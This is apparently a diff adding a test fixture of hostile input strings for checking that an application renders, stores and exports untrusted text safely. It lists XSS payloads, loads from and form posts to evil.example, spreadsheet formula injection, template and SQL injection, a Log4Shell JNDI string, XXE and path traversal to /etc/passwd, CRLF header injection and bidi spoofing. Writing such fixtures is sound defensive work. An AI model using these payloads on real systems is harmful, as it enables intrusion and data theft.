@@ -1,0 +1,187 @@
+/** What a page must never run. If it runs, the detectors of `watchPages` see a dialog, a request or a breach. */
+const RUN = 'alert(1)';
+
+const ELEMENTS = [
+  `<script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</style><script>${RUN}</script>`,
+  `--><script>${RUN}</script><!--`,
+  `]]><script>${RUN}</script>`,
+  `"><script>${RUN}</script>`,
+  `'><script>${RUN}</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<script type=module src=https://evil.example/x.mjs></script>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<template><script>${RUN}</script></template>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>">`,
+  `<svg><style><img src=x onerror=${RUN}></style>`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<base href="https://evil.example/">`,
+  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
+  `<link rel=stylesheet href=https://evil.example/x.css>`,
+  `<style>@import "https://evil.example/x.css";body{display:none}</style>`,
+  `<form action=https://evil.example/><button>Sign in</button></form>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<a href="javascript:${RUN}">open</a>`,
+  `<a href="https://evil.example/" target=_blank>open</a>`,
+  `<marquee onstart=${RUN}>`,
+  `<plaintext>`,
+  `<xmp>`,
+  `<!--`,
+  `<![CDATA[`,
+  `<?php echo 1 ?>`,
+  `<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&#60;script&#62;${RUN}&#60;/script&#62;`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `<div style="position:fixed;inset:0;background:url(https://evil.example/x)">`,
+  `<div id=root></div>`,
+  `<img name=cookie><form id=location>`,
+] as const;
+
+const HANDLERS = (
+  'abort animationend animationiteration animationstart auxclick beforeinput beforetoggle blur canplay change click ' +
+  'contextmenu copy cut dblclick drag dragend dragenter dragstart drop error focus focusin hashchange input invalid ' +
+  'keydown load loadstart message mouseenter mouseover mousemove pageshow paste play pointerdown pointerenter ' +
+  'pointermove popstate resize scroll scrollend select submit toggle touchstart transitionend wheel'
+)
+  .split(' ')
+  .map((name) => `"><img src=x on${name}=${RUN} style="animation:x;display:block">`);
+
+const ADDRESSES = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  ` javascript:${RUN}`,
+  `java\tscript:${RUN}`,
+  `java\nscript:${RUN}`,
+  `javascript\u0000:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `javascript://example.com/%0a${RUN}`,
+  `vbscript:msgbox(1)`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
+  `blob:https://evil.example/1`,
+  `file:///etc/passwd`,
+  `//evil.example/`,
+  `https://evil.example\\@localhost/`,
+  `https://user:password@evil.example/`,
+  `../../../../etc/passwd`,
+  `/console/../api/whoami?x=1#"><script>${RUN}</script>`,
+  `https://xn--80ak6aa92e.example/`,
+] as const;
+
+const DIRECTIONS = [
+  'invoice\u202Egpj.exe',
+  '\u202D forced to the right',
+  '\u202A embedded \u202B twice \u202C once closed',
+  '\u2066\u2067\u2068 isolates that nobody closes',
+  '\u2069\u2069\u2069 closes what it never opened',
+  '\u200Emark \u200Fmark \u061Cmark',
+  'عربي <b>123</b> abc',
+  'שלום (hello) 1/2',
+  '\u202E'.repeat(64) + 'sixty-four',
+  'a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf',
+  '\u200B',
+  '\u00A0\u2003\u3000',
+  'line\u2028separator\u2029paragraph',
+  '\u{E0001}\u{E0068}\u{E0069}tags',
+  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}',
+  'Z' + '\u0351'.repeat(300),
+  '\u115F\u1160\u3164\uFFA0',
+  'аdmin (Cyrillic)',
+  '\uFFFC\uFFFD\uFFFE\uFFFF',
+  'ﷺ'.repeat(40),
+] as const;
+
+const SHEETS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '"=', '＝', '＋', "'="].flatMap((start) => [
+  `${start}cmd|'/c calc'!A0`,
+  `${start}HYPERLINK("https://evil.example/?"&A1,"open")`,
+]);
+
+const TEMPLATES = [
+  '{{7*7}}',
+  "{{constructor.constructor('alert(1)')()}}",
+  '${alert(1)}',
+  '#{7*7}',
+  '<%= 7*7 %>',
+  '{% raw %}',
+  '[[${7*7}]]',
+  '*{7*7}',
+  '@(7*7)',
+  '$t(records.title)',
+  '{{count}} {{value, uppercase}}',
+  '__proto__',
+  'constructor',
+  'toString',
+  '$&$1$`',
+  '%s%s%n%x',
+  '{0} {}',
+  '`${process.env}`',
+  '$(id) `id`',
+  "'; drop table records; --",
+  '" or ""="',
+  '${jndi:ldap://evil.example/a}',
+  '(?:a+)+$',
+  '*)(uid=*))(|(uid=*',
+] as const;
+
+const CONTROLS = [
+  '\u0000',
+  'nul\u0000inside',
+  'bell\u0007 back\b\b\b\b',
+  'form\ffeed vertical\vtab',
+  '\u001B[31mred\u001B[0m',
+  '\u001B]0;title\u0007',
+  '\u001B]8;;https://evil.example/\u001B\\open\u001B]8;;\u001B\\',
+  'one\r\nSet-Cookie: a=b',
+  '\r\n\r\n<script>alert(1)</script>',
+  '\u007F\u0080\u009B31m',
+  '\u0085next\u0085line',
+  '\uD800',
+  '\uDC00',
+  '\uD83D cut',
+  '\uDE00\uD83D turned',
+  'a\uD800b\uDFFFc',
+] as const;
+
+const SHAPES = [
+  ' ',
+  '-',
+  '0',
+  '-0',
+  '1e999',
+  'NaN',
+  'null',
+  'undefined',
+  'true',
+  '[]',
+  '{}',
+  '{"__proto__":{"polluted":true}}',
+  '[object Object]',
+  '2026-11-20T09:00:00Z',
+  'A'.repeat(200),
+  'W'.repeat(199) + '<',
+] as const;
+
+/** Texts that attack what shows, stores or exports them. Each is a text that JSON can carry; some are refused. */
+export const HOSTILE_TEXTS: readonly string[] = [
+  ...ELEMENTS,
+  ...HANDLERS,
+  ...ADDRESSES,
+  ...DIRECTIONS,
+  ...SHEETS,
+  ...TEMPLATES,
+  ...CONTROLS,
+  ...SHAPES,
+];
